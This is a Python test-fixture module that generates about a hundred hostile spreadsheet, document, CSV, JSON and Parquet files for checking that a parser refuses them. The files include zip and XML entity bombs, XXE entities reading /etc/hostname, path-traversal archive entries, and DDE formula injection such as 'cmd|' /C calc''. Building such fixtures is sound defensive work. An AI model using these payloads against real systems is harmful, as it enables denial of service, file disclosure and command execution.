"""Hostile lists: files that try to fill the memory, the disk or the day of whoever opens them.

`NAMES` lists them, `build(name)` gives the bytes of one; a name ends in the suffix of its file.
Each is made with less than 200 MB of memory and, where the attack allows, is small on disk. Nothing
here is a test: a test opens each within its limits and wants a refusal, or what could be read, in
a sentence.
"""

import codecs
import gzip
import io
import json
import struct
import zlib
from collections.abc import Callable, Iterable
from typing import Any, NamedTuple

MEGABYTE = 1 << 20
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACK = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ODF = "urn:oasis:names:tc:opendocument:xmlns:"
DECLARED = b'<?xml version="1.0" encoding="UTF-8"?>'
HEADING = "Nombre,Fecha de detención\n"
Build = Callable[[], bytes]
Part = "bytes | Packed"


class Packed(NamedTuple):
    """A part of an archive that is compressed already: its bytes, checksum and true size."""

    data: bytes
    crc: int
    size: int


def packed(head: bytes, filling: bytes, megabytes: int, tail: bytes) -> Packed:
    """A part of so many megabytes of one filling, compressed piece by piece."""
    compress = zlib.compressobj(6, zlib.DEFLATED, -15)
    piece = filling * (MEGABYTE // len(filling))
    data, crc, size = [], 0, 0
    for chunk in (head, *[piece] * megabytes, tail):
        data.append(compress.compress(chunk))
        crc, size = zlib.crc32(chunk, crc), size + len(chunk)
    return Packed(b"".join([*data, compress.flush()]), crc, size)


def small(content: bytes) -> Packed:
    """A part as it stands, compressed."""
    return packed(content, b" ", 0, b"")


class Entry(NamedTuple):
    """One entry of an archive written by hand, so that it can say what is not so."""

    name: bytes
    part: Packed
    told: int | None = None  # the size that the headers tell
    method: int = 8
    flags: int = 0
    extra: bytes = b""


def local(entry: Entry) -> bytes:
    """The header and the bytes of an entry."""
    told = entry.part.size if entry.told is None else entry.told
    numbers = (20, entry.flags, entry.method, 0, 33, entry.part.crc, len(entry.part.data), told)
    names = (len(entry.name), len(entry.extra))
    head = b"PK\3\4" + struct.pack("<5H3I2H", *numbers, *names)
    return head + entry.name + entry.extra + entry.part.data


def central(entry: Entry, offset: int) -> bytes:
    """The line of an entry in the central directory."""
    told = entry.part.size if entry.told is None else entry.told
    numbers = (20, 20, entry.flags, entry.method, 0, 33, entry.part.crc, len(entry.part.data), told)
    names = (len(entry.name), len(entry.extra), 0, 0, 0, 0, offset)
    return b"PK\1\2" + struct.pack("<6H3I5H2I", *numbers, *names) + entry.name + entry.extra


def ended(body: bytes, directory: bytes, count: int, offset: int | None = None) -> bytes:
    """An archive of its entries, its directory and its end."""
    place = len(body) if offset is None else offset
    end = struct.pack("<4H2IH", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), place, 0)
    return body + directory + b"PK\5\6" + end


def by_hand(entries: Iterable[Entry]) -> bytes:
    """An archive of entries, each as it says."""
    body, directory, count = io.BytesIO(), io.BytesIO(), 0
    for count, entry in enumerate(entries, 1):  # noqa: B007
        directory.write(central(entry, body.tell()))
        body.write(local(entry))
    return ended(body.getvalue(), directory.getvalue(), count)


def sheet(rows: str = "", before: str = "", after: str = "") -> bytes:
    """A worksheet of rows."""
    body = f'<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
    return DECLARED + body.encode()


def text(value: str, place: str = "A1") -> str:
    """A cell that holds its text itself."""
    return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'


ORDINARY = f'<row r="1">{text("Nombre")}</row><row r="2">{text("Ana Ficticia", "A2")}</row>'


def relations(*targets: tuple[str, str], mode: str = "") -> bytes:
    """Relationships to targets of a kind."""
    listed = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target) in enumerate(targets, 1)
    )
    return DECLARED + f'<Relationships xmlns="{PACK}">{listed}</Relationships>'.encode()


def workbook_parts(first: bytes | Packed, **changed: bytes | Packed) -> dict[str, bytes | Packed]:
    """The parts of a workbook; `changed` replaces workbook, rels, strings or styles."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = "".join(
        f'<Override PartName="/xl/{part}" ContentType="{kind}.{what}+xml"/>'
        for part, what in (
            ("workbook.xml", "sheet.main"),
            ("worksheets/sheet1.xml", "worksheet"),
            ("sharedStrings.xml", "sharedStrings"),
            ("styles.xml", "styles"),
        )
    )
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f"{types}</Types>"
    )
    book = f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="Lista" sheetId="1" '
    strings = f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>Nombre</t></si></sst>'
    plain = (
        f'<styleSheet xmlns="{MAIN}"><cellXfs count="1"><xf numFmtId="0"/></cellXfs></styleSheet>'
    )
    targets = (
        ("worksheet", "worksheets/sheet1.xml"),
        ("sharedStrings", "sharedStrings.xml"),
        ("styles", "styles.xml"),
    )
    return {
        "[Content_Types].xml": DECLARED + types.encode(),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": changed.get(
            "workbook", DECLARED + f'{book}r:id="rId1"/></sheets></workbook>'.encode()
        ),
        "xl/_rels/workbook.xml.rels": changed.get("rels", relations(*targets)),
        "xl/sharedStrings.xml": changed.get("strings", DECLARED + strings.encode()),
        "xl/styles.xml": changed.get("styles", DECLARED + plain.encode()),
        "xl/worksheets/sheet1.xml": first,
    }


def entries(parts: dict[str, bytes | Packed]) -> list[Entry]:
    """Parts as entries of an archive."""
    return [
        Entry(name.encode(), part if isinstance(part, Packed) else small(part))
        for name, part in parts.items()
    ]


def xlsx(first: bytes | Packed, **changed: bytes | Packed) -> bytes:
    """A workbook whose first sheet is this."""
    return by_hand(entries(workbook_parts(first, **changed)))


def rows(*cells: str) -> bytes:
    """A workbook with an ordinary heading and these cells under it."""
    return xlsx(sheet(ORDINARY + f'<row r="3">{"".join(cells)}</row>'))


def bomb(root: str, element: str, megabytes: int = 1000) -> Packed:
    """A part that unfolds to so many megabytes of one element."""
    tag = root.split(maxsplit=1)[0]
    head = DECLARED + f"<{root}>".encode()
    return packed(head, element.encode(), megabytes, f"</{tag}>".encode())


def laughs(root: str, inside: str) -> bytes:
    """Entities within entities: ten times ten, nine deep; `inside` holds %s."""
    defined = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return (
        f"<!DOCTYPE x [{defined}]><{root}>{inside % '&a9;'}</{root.split(maxsplit=1)[0]}>".encode()
    )


def swollen(size: int = 100_000) -> bytes:
    """One long entity, used many times."""
    defined = f'<!DOCTYPE x [<!ENTITY a "{"a" * size}">]>'
    cells = f'<row r="1">{text("&a;" * 20_000)}</row>'
    return defined.encode() + sheet(cells).removeprefix(DECLARED)


def outside(address: str) -> bytes:
    """A sheet that asks for a file or a page from outside."""
    defined = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}">]>'
    return defined.encode() + sheet(f'<row r="1">{text("&a;")}</row>').removeprefix(DECLARED)


def overlapping() -> bytes:
    """Six hundred names for one compressed kernel of 100 MB."""
    kernel = Entry(b"xl/worksheets/sheet1.xml", bomb(f'worksheet xmlns="{MAIN}"', "<c/>", 100))
    body = local(kernel)
    lines = [
        central(kernel._replace(name=f"xl/worksheets/sheet{n}.xml".encode()), 0)
        for n in range(1, 601)
    ]
    return ended(body, b"".join(lines), len(lines))


def nested(levels: int = 12) -> bytes:
    """Archives within archives, five copies a level."""
    inner = xlsx(bomb(f'worksheet xmlns="{MAIN}"', " ", 50))
    for _ in range(levels):
        piece = small(inner)
        inner = by_hand([Entry(f"xl/worksheets/sheet{n}.xml".encode(), piece) for n in range(1, 6)])
        inner = inner if len(inner) < 20 * MEGABYTE else inner[: 20 * MEGABYTE]
    return inner


def lying(told: int) -> bytes:
    """A sheet of 300 MB whose headers tell another size."""
    listed = entries(workbook_parts(bomb(f'worksheet xmlns="{MAIN}"', " ", 300)))
    return by_hand([*listed[:-1], listed[-1]._replace(told=told)])


def wide_zip64() -> bytes:
    """A size of 2^63 in the extra field of large archives."""
    extra = struct.pack("<2H2Q", 1, 16, 1 << 63, 1 << 62)
    listed = entries(workbook_parts(sheet(ORDINARY)))
    return by_hand([*listed[:-1], listed[-1]._replace(told=0xFFFFFFFF, extra=extra)])


def named_twice() -> bytes:
    """The header of the entry and the directory give it two names."""
    good = xlsx(sheet(ORDINARY))
    place = good.rindex(b"xl/worksheets/sheet1.xml")
    return good[:place] + b"xl/worksheets/other1.xml" + good[place + 24 :]


def misdirected(offset: int, count: int = 7) -> bytes:
    """A directory that lies elsewhere, or has another number of lines, than the end says."""
    good = xlsx(sheet(ORDINARY))
    start = good.index(b"PK\1\2")
    end = good.index(b"PK\5\6")
    return ended(good[:start], good[start:end], count, offset)


def with_entry(**changes: Any) -> bytes:
    """A workbook whose sheet's entry says something else of itself."""
    listed = entries(workbook_parts(sheet(ORDINARY)))
    return by_hand([*listed[:-1], listed[-1]._replace(**changes)])


def with_more(more: Iterable[Entry]) -> bytes:
    """A workbook with more entries than it has use for."""
    return by_hand([*entries(workbook_parts(sheet(ORDINARY))), *more])


def many_sheets(count: int) -> bytes:
    """A workbook that lists one sheet again and again."""
    listed = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count + 1))
    book = f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{listed}</sheets></workbook>'
    return xlsx(sheet(ORDINARY), workbook=DECLARED + book.encode())


def deep(count: int) -> Packed:
    """A sheet of elements within elements."""
    return small(DECLARED + b"<a>" * count + b"</a>" * count)


def looped_styles() -> bytes:
    """Styles that are each other's and their own parents."""
    xf = '<xf numFmtId="0" xfId="1"/><xf numFmtId="0" xfId="0"/>'
    both = f'<cellStyleXfs count="2">{xf}</cellStyleXfs><cellXfs count="2">{xf}</cellXfs>'
    return DECLARED + f'<styleSheet xmlns="{MAIN}">{both}</styleSheet>'.encode()


def ods(content: bytes | Packed) -> bytes:
    """An OpenDocument spreadsheet of that content."""
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        DECLARED
        + (
            f'<m:manifest xmlns:m="{ODF}manifest:1.0"><m:file-entry m:full-path="/" '
            f'm:media-type="{kind.decode()}"/><m:file-entry m:full-path="content.xml" '
            'm:media-type="text/xml"/></m:manifest>'
        ).encode()
    )
    parts = {"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content}
    return by_hand(entries(parts))


SPREADSHEET = (
    f'o:document-content xmlns:o="{ODF}office:1.0" xmlns:t="{ODF}table:1.0" xmlns:x="{ODF}text:1.0"'
)


def ods_table(inside: str) -> bytes:
    """An OpenDocument spreadsheet of one table."""
    table = f'<t:table t:name="Lista">{inside}</t:table>'
    body = f"<o:body><o:spreadsheet>{table}</o:spreadsheet></o:body>"
    return ods(DECLARED + f"<{SPREADSHEET}>{body}</o:document-content>".encode())


def ods_repeated(columns: int, rows_: int) -> bytes:
    """A filled cell repeated that often."""
    cell = (
        f'<t:table-cell o:value-type="string" t:number-columns-repeated="{columns}">'
        "<x:p>Ana Ficticia</x:p></t:table-cell>"
    )
    return ods_table(f'<t:table-row t:number-rows-repeated="{rows_}">{cell}</t:table-row>')


def docx(document: bytes | Packed) -> bytes:
    """A text document of that content."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default '
        'Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
        '"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    )
    parts: dict[str, bytes | Packed] = {
        "[Content_Types].xml": DECLARED + types.encode(),
        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
        "word/document.xml": document,
    }
    return by_hand(entries(parts))


def docx_table(inside: str) -> bytes:
    """A text document of one table."""
    body = f"<w:body><w:tbl>{inside}</w:tbl></w:body>"
    return docx(DECLARED + f'<w:document xmlns:w="{WORD}">{body}</w:document>'.encode())


def docx_nested(count: int) -> bytes:
    """Tables within cells of tables."""
    inner = "<w:tr><w:tc><w:tbl>" * count + "</w:tbl></w:tc></w:tr>" * count
    return docx_table(inner)


def parquet(rows_: int = 10, width: int = 1, length: int = 8) -> bytes:
    """A Parquet file of texts, all alike in a column."""
    import polars as pl  # noqa: PLC0415

    columns = {f"nombre{n}": pl.repeat("x" * length, rows_, eager=True) for n in range(width)}
    stream = io.BytesIO()
    pl.DataFrame(columns).write_parquet(stream, compression="zstd", row_group_size=50_000)
    return stream.getvalue()


def footed(footer: bytes, length: int | None = None) -> bytes:
    """A Parquet file of that footer, whose length may be told wrongly."""
    told = len(footer) if length is None else length
    return b"PAR1" + b"\0" * 64 + footer + struct.pack("<I", told) + b"PAR1"


def ole(sectors: int = 8) -> bytes:
    """An old Excel file whose sectors follow one another in a circle."""
    head = codecs.BOM_UTF8[:0] + bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16
    head += struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 10
    head += struct.pack("<5I", 1, 1, 0, 4096, 0) + struct.pack("<4I", 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * (512 - len(head) - 4)
    circle = struct.pack("<128I", *[(n + 1) % sectors for n in range(128)])
    return head + circle + b"\0" * 512 * sectors


def csv(body: str, encoding: str = "utf-8") -> bytes:
    """A table of an ordinary heading and this."""
    return (HEADING + body).encode(encoding)


def wide() -> bytes:
    """A million headings over one row."""
    return (",".join(f"c{n}" for n in range(1_000_000)) + "\n1,2").encode()


def spanned() -> bytes:
    """Cells that say that they span thousands of millions of columns."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc>'
    return docx_table(f"<w:tr>{cell}</w:tr>" * 3)


def bounded_merges() -> bytes:
    """A hundred thousand merged ranges that lie over one another."""
    listed = "".join(f'<mergeCell ref="A{n}:XFD{n + 1000}"/>' for n in range(1, 100_001))
    return xlsx(sheet(ORDINARY, after=f"<mergeCells>{listed}</mergeCells>"))


ROOT = f'worksheet xmlns="{MAIN}"'
WHOLE = "A1:XFD1048576"
FAR = text("lejos", "XFD1048576")
HOSTILE: dict[str, Build] = {
    "sheet-of-1-gb.xlsx": lambda: xlsx(bomb(ROOT, " ")),
    "rows-of-1-gb.xlsx": lambda: xlsx(bomb(ROOT + "><sheetData", "<row><c/></row>")),
    "strings-of-1-gb.xlsx": lambda: xlsx(
        sheet(ORDINARY), strings=bomb(f'sst xmlns="{MAIN}"', "<si><t>a</t></si>")
    ),
    "styles-of-1-gb.xlsx": lambda: xlsx(
        sheet(ORDINARY), styles=bomb(f'styleSheet xmlns="{MAIN}"', "<xf/>")
    ),
    "cell-of-50-mb.xlsx": lambda: xlsx(
        packed(
            DECLARED + f'<{ROOT}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'.encode(),
            b"a",
            50,
            b"</t></is></c></row></sheetData></worksheet>",
        )
    ),
    "archives-in-archives.xlsx": nested,
    "one-kernel-600-names.xlsx": overlapping,
    "size-told-too-small.xlsx": lambda: lying(10),
    "size-told-4-gb.xlsx": lambda: with_entry(told=0xFFFFFFFE),
    "size-told-2-63.xlsx": wide_zip64,
    "directory-beyond-the-end.xlsx": lambda: misdirected(1 << 31),
    "directory-at-the-start.xlsx": lambda: misdirected(0),
    "directory-of-65535-lines.xlsx": lambda: misdirected(0, 0xFFFF),
    "no-directory.xlsx": lambda: xlsx(sheet(ORDINARY)).partition(b"PK\1\2")[0],
    "entry-of-two-names.xlsx": named_twice,
    "encrypted-entry.xlsx": lambda: with_entry(flags=1),
    "unknown-compression.xlsx": lambda: with_entry(method=99),
    "damaged-checksum.xlsx": lambda: with_entry(part=small(sheet(ORDINARY))._replace(crc=1)),
    "damaged-compression.xlsx": lambda: with_entry(part=Packed(b"\xff" * 500, 0, 500)),
    "path-out-of-the-folder.xlsx": lambda: with_more(
        [Entry(b"../../../../tmp/habeas-hostile", small(b"x")), Entry(b"/etc/hostile", small(b"x"))]
    ),
    "sixty-thousand-entries.xlsx": lambda: with_more(
        Entry(f"xl/media/{n}".encode(), Packed(b"\3\0", 0, 0)) for n in range(60_000)
    ),
    "sheet-twice.xlsx": lambda: with_more(
        [Entry(b"xl/worksheets/sheet1.xml", small(sheet(ORDINARY + f'<row r="9">{FAR}</row>')))]
    ),
    "entities-in-entities.xlsx": lambda: xlsx(
        laughs(ROOT, f'<sheetData><row r="1">{text("%s")}</row></sheetData>')
    ),
    "entities-in-strings.xlsx": lambda: xlsx(
        sheet(ORDINARY), strings=laughs(f'sst xmlns="{MAIN}"', "<si><t>%s</t></si>")
    ),
    "one-long-entity.xlsx": lambda: xlsx(swollen()),
    "entity-from-a-file.xlsx": lambda: xlsx(outside("file:///etc/hostname")),
    "entity-from-a-page.xlsx": lambda: xlsx(outside("http://127.0.0.1:9/list")),
    "parameter-entity-loop.xlsx": lambda: xlsx(
        b'<!DOCTYPE x [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;">%a;]>'
        + sheet(ORDINARY).removeprefix(DECLARED)
    ),
    "dimension-of-a-whole-sheet.xlsx": lambda: xlsx(
        sheet(ORDINARY, before=f'<dimension ref="{WHOLE}"/>')
    ),
    "cell-in-the-last-corner.xlsx": lambda: xlsx(
        sheet(ORDINARY + f'<row r="1048576">{FAR}</row>', before=f'<dimension ref="{WHOLE}"/>')
    ),
    "cells-of-a-diagonal.xlsx": lambda: xlsx(
        sheet(
            "".join(f'<row r="{n}">{text("a", f"XFD{n}")}</row>' for n in range(1, 1_000_000, 50))
        )
    ),
    "cell-beyond-the-sheet.xlsx": lambda: rows(text("a", "ZZZZZZZ99999999999")),
    "cell-without-a-place.xlsx": lambda: rows(text("a", ""), text("b", "3C"), text("c", "A0")),
    "row-below-nothing.xlsx": lambda: xlsx(
        sheet(
            ORDINARY + '<row r="-5"><c r="A-5"><v>1</v></c></row><row r="0"/><row r="99999999999"/>'
        )
    ),
    "a-million-empty-columns.xlsx": lambda: xlsx(
        packed(
            DECLARED + f'<{ROOT}><sheetData><row r="1">'.encode(),
            b"<c/>",
            4,
            b"</row></sheetData></worksheet>",
        )
    ),
    "a-million-empty-rows.xlsx": lambda: xlsx(
        packed(
            DECLARED + f"<{ROOT}><sheetData>".encode(), b"<row/>  ", 8, b"</sheetData></worksheet>"
        )
    ),
    "merged-whole-sheet.xlsx": lambda: xlsx(
        sheet(ORDINARY, after=f'<mergeCells><mergeCell ref="{WHOLE}"/></mergeCells>')
    ),
    "a-hundred-thousand-merges.xlsx": bounded_merges,
    "string-out-of-range.xlsx": lambda: rows(
        '<c r="A3" t="s"><v>4294967295</v></c><c r="B3" t="s"><v>-1</v></c>'
        '<c r="C3" t="s"><v>x</v></c>'
    ),
    "strings-told-4-000-000-000.xlsx": lambda: xlsx(
        sheet(ORDINARY),
        strings=DECLARED
        + f'<sst xmlns="{MAIN}" count="4000000000" uniqueCount="4000000000"/>'.encode(),
    ),
    "styles-in-a-circle.xlsx": lambda: xlsx(sheet(ORDINARY), styles=looped_styles()),
    "style-out-of-range.xlsx": lambda: rows('<c r="A3" s="4294967295"><v>45000</v></c>'),
    "formulas-in-a-circle.xlsx": lambda: rows(
        '<c r="A3"><f t="shared" ref="A3:XFD1048576" si="0">B3</f></c>'
        '<c r="B3"><f>A3</f><v>1</v></c>'
    ),
    "formulas-that-call.xlsx": lambda: rows(
        text("=cmd|' /C calc'!A0", "A3"),
        '<c r="B3" t="str"><f>WEBSERVICE("http://127.0.0.1:9/")</f><v>x</v></c>',
    ),
    "days-of-year-99999.xlsx": lambda: rows(
        *[
            f'<c r="{c}3"><v>{v}</v></c>'
            for c, v in zip("ABCDE", ("1e300", "-1", "NaN", "inf", "35793665"), strict=True)
        ]
    ),
    "iso-day-of-year-99999.xlsx": lambda: rows('<c r="A3" t="d"><v>99999-99-99T99:99:99</v></c>'),
    "workbook-that-is-its-own-sheet.xlsx": lambda: xlsx(
        sheet(ORDINARY), rels=relations(("worksheet", "workbook.xml"), ("styles", "workbook.xml"))
    ),
    "sheet-that-is-not-there.xlsx": lambda: xlsx(
        sheet(ORDINARY), rels=relations(("worksheet", "worksheets/sheet99.xml"))
    ),
    "sheet-outside.xlsx": lambda: xlsx(
        sheet(ORDINARY),
        rels=relations(("worksheet", "http://127.0.0.1:9/s.xml"), mode=' TargetMode="External"'),
    ),
    "sheet-above-the-folder.xlsx": lambda: xlsx(
        sheet(ORDINARY), rels=relations(("worksheet", "../../../../../etc/hostname"))
    ),
    "fifty-thousand-sheets.xlsx": lambda: many_sheets(50_000),
    "elements-a-million-deep.xlsx": lambda: xlsx(deep(1_000_000)),
    "element-of-500-000-attributes.xlsx": lambda: xlsx(
        sheet("<row " + " ".join(f'a{n}="1"' for n in range(500_000)) + "/>")
    ),
    "xml-that-is-not-utf-8.xlsx": lambda: xlsx(sheet(ORDINARY).replace(b"Ana", b"\xff\xfe\xc0")),
    "xml-of-an-unknown-encoding.xlsx": lambda: xlsx(sheet(ORDINARY).replace(b"UTF-8", b"EBCDIC-9")),
    "xml-with-nuls.xlsx": lambda: xlsx(sheet(ORDINARY).replace(b"Ana", b"A\0\0\0a")),
    "xml-cut-off.xlsx": lambda: xlsx(sheet(ORDINARY)[:-40]),
    "cut-in-half.xlsx": lambda: xlsx(sheet(ORDINARY))[:900],
    "a-page-by-that-name.xlsx": lambda: (
        b"<html><body><table><tr><td>Ana</td></tr></table></body></html>"
    ),
    "nothing.xlsx": lambda: b"",
    "sectors-in-a-circle.xls": ole,
    "cell-repeated-2-31.ods": lambda: ods_repeated(2_147_483_647, 1),
    "row-repeated-2-31.ods": lambda: ods_repeated(1, 2_147_483_647),
    "both-repeated.ods": lambda: ods_repeated(16_384, 1_048_576),
    "repeated-less-than-none.ods": lambda: ods_repeated(-7, -1),
    "content-of-1-gb.ods": lambda: ods(bomb(SPREADSHEET, "<o:a/>")),
    "entities-in-entities.ods": lambda: ods(laughs(SPREADSHEET, "<o:body>%s</o:body>")),
    "tables-in-tables.ods": lambda: ods_table("<t:table>" * 200_000 + "</t:table>" * 200_000),
    "lone-quote.csv": lambda: csv(
        '"Ana Ficticia,2024-01-02\n' + "Luis Ficticio,2024-01-03\n" * 200_000
    ),
    "a-million-separators.csv": lambda: csv("," * 1_000_000 + "\n" + ";" * 1_000_000),
    "a-million-columns.csv": wide,
    "a-million-quotes.csv": lambda: csv('"' * 1_000_001 + "\n"),
    "one-line-of-50-mb.csv": lambda: csv("a" * 50 * MEGABYTE),
    "nuls.csv": lambda: csv("Ana\0Ficticia,2024\0-01-02\n" + "\0" * 1_000_000),
    "carriage-returns.csv": lambda: csv("\r" * 1_000_000 + "Ana,2024-01-02\r\r\n\n\r"),
    "broken-utf-8.csv": lambda: csv("Ana,") + b"\xc3\x28\xa0\xff\xfe\xf8\x88" * 1000,
    "utf-16-without-its-mark.csv": lambda: csv("Ana Ficticia,2024-01-02\n" * 50, "utf-16-le"),
    "utf-16-cut-in-a-letter.csv": lambda: csv("Ana Ficticia,2024-01-02\n", "utf-16")[:-1],
    "utf-32.csv": lambda: csv("Ana Ficticia,2024-01-02\n", "utf-32"),
    "encoded-twice.csv": lambda: csv("Íñigo Ficticio,2024-01-02\n" * 50).decode("latin-1").encode(),
    "two-encodings.csv": lambda: csv("Íñigo,2024-01-02\n") + csv("Ñusta,2024-01-03\n", "latin-1"),
    "ragged.csv": lambda: csv("".join("a," * (n % 997) + "\n" for n in range(20_000))),
    "year-99999.csv": lambda: csv(
        "Ana,99999-12-31\nLuis,31/12/99999\nEva,0000-00-00\nJob,-1-1-1\n"
    ),
    "number-of-a-million-digits.csv": lambda: csv("Ana," + "9" * 1_000_000 + "\n"),
    "a-million-marks-on-a-letter.csv": lambda: csv("A" + "\u0301" * 1_000_000 + ",2024-01-02\n"),
    "names-turned-round.csv": lambda: csv("\u202eanA\u202c,2024-01-02\n\u2066Luis,2024-01-03\n"),
    "words-that-are-not-parted.csv": lambda: csv(" ".join(["Ana"] * 300_000) + ",2024-01-02\n"),
    "formulas.csv": lambda: csv(
        "=HYPERLINK(\"http://127.0.0.1:9\"),@SUM(A1)\n+1+cmd|' /C x'!A0,-2\n"
    ),
    "compressed-by-that-name.csv": lambda: gzip.compress(b"a," * 50 * MEGABYTE, 9, mtime=0),
    "an-archive-by-that-name.csv": lambda: xlsx(bomb(ROOT, " ", 300)),
    "lists-a-million-deep.json": lambda: b"[" * 1_000_000 + b"]" * 1_000_000,
    "objects-a-million-deep.json": lambda: b'{"a":' * 1_000_000 + b"1" + b"}" * 1_000_000,
    "number-of-a-million-digits.json": lambda: (
        b'[{"nombre": "Ana", "edad": ' + b"9" * 1_000_000 + b"}]"
    ),
    "exponent.json": lambda: b'[{"nombre": "Ana", "edad": 1e999999999, "x": -1E-999999999}]',
    "not-numbers.json": lambda: b'[{"nombre": "Ana", "edad": NaN, "x": Infinity}]',
    "keys-twice.json": lambda: b'[{"nombre": "Ana", "nombre": "Luis", "nombre": null}]',
    "a-million-keys.json": lambda: json.dumps([{f"k{n}": 0 for n in range(1_000_000)}]).encode(),
    "a-column-a-row.json": lambda: json.dumps([{f"k{n}": n} for n in range(30_000)]).encode(),
    "half-a-letter.json": lambda: b'[{"nombre": "\\ud800 Ana \\udfff"}]',
    "cut-off.json": lambda: b'[{"nombre": "Ana"}, {"nombre": "Lu',
    "rows-of-other-kinds.json": lambda: b'[1, null, "Ana", [[]], {"nombre": {"a": [1, {}]}}, true]',
    "lines-of-halves.jsonl": lambda: b'{"nombre": "Ana"}\n{"nombre":\n"Luis"}\n\0\n[]\n',
    "document-of-1-gb.docx": lambda: docx(bomb(f'w:document xmlns:w="{WORD}"', "<w:p/>")),
    "entities-in-entities.docx": lambda: docx(
        laughs(
            f'w:document xmlns:w="{WORD}"', "<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body>"
        )
    ),
    "tables-in-tables.docx": lambda: docx_nested(100_000),
    "cells-spanning-2-31.docx": spanned,
    "no-document.docx": lambda: by_hand([Entry(b"word/nothing.xml", small(b"<a/>"))]),
    "two-gb-of-one-text.parquet": lambda: parquet(1_000_000, 1, 2_000),
    "twenty-thousand-columns.parquet": lambda: parquet(1, 20_000),
    "cut-off.parquet": lambda: parquet()[:-9],
    "footer-longer-than-the-file.parquet": lambda: footed(b"\x15\x04", 0x7FFFFFFF),
    "footer-of-a-huge-list.parquet": lambda: footed(
        b"\x15\x04\x19\xfc\xff\xff\xff\xff\x0f" + b"\0" * 40
    ),
    "footer-a-million-deep.parquet": lambda: footed(b"\x1c" * 1_000_000),
    "footer-of-nothing.parquet": lambda: footed(b""),
}
NAMES = tuple(HOSTILE)


def build(name: str) -> bytes:
    """The bytes of a hostile list by its name."""
    return HOSTILE[name]()
